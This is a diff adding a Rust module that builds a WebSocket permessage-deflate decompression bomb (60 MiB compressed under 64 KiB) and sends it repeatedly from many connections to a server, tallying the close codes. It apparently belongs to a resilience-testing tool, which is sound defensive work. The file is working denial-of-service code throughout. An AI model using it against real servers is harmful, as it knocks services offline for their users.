@@ -1,0 +1,69 @@
+//! Messages that inflate a thousandfold (RFC 7692 §8, CVE-2016-1544 and its like).
+
+use std::{io::Write, net::SocketAddr, time::Duration};
+
+use anyhow::Result;
+use flate2::{Compression, write::DeflateEncoder};
+
+use super::{
+    Attack, Tally, count,
+    peer::{Peer, frame},
+};
+
+/// The time between two strokes.
+const STROKE: Duration = Duration::from_millis(250);
+
+/// What a bomb inflates to: compressed it is just below the 64 KiB that a gateway takes of a client.
+const INFLATED_BYTES: usize = 60 << 20;
+
+const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
+
+/// Bombs, as many at once as there are peers.
+pub(super) struct Bombs {
+    server: SocketAddr,
+    count: usize,
+    bomb: Vec<u8>,
+}
+
+impl Bombs {
+    pub(super) fn new(server: SocketAddr, count: usize) -> Result<Self> {
+        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
+        let zeros = vec![0; 1 << 20];
+        for _ in 0..INFLATED_BYTES >> 20 {
+            encoder.write_all(&zeros)?;
+        }
+        encoder.flush()?;
+        // §7.2.1: the four bytes that end what was flushed are left out.
+        let mut deflated = encoder.get_ref().clone();
+        deflated.truncate(deflated.len() - 4);
+        Ok(Self {
+            server,
+            count,
+            bomb: frame(0x2, &deflated).with_rsv(4).to_bytes(),
+        })
+    }
+}
+
+impl Attack for Bombs {
+    fn stroke(&mut self, tally: &mut Tally) -> Result<Duration> {
+        let asked = (0..self.count).map(|_| Peer::ask(self.server, "/connection/websocket", OFFER));
+        let mut peers: Vec<Peer> = asked.collect::<Result<_, _>>()?;
+        for peer in &mut peers {
+            peer.wait_for_open()?;
+        }
+        for peer in &mut peers {
+            // The server may well have enough before the end.
+            _ = peer.stream.write_all(&self.bomb);
+        }
+        for peer in &mut peers {
+            let name = match peer.close_code() {
+                Ok(1009) => "answered with 1009".to_owned(),
+                Ok(code) => format!("answered with {code}"),
+                Err(_) => "not answered".to_owned(),
+            };
+            count(tally, &name, 1);
+        }
+        count(tally, "bombs", peers.len() as u64);
+        Ok(STROKE)
+    }
+}
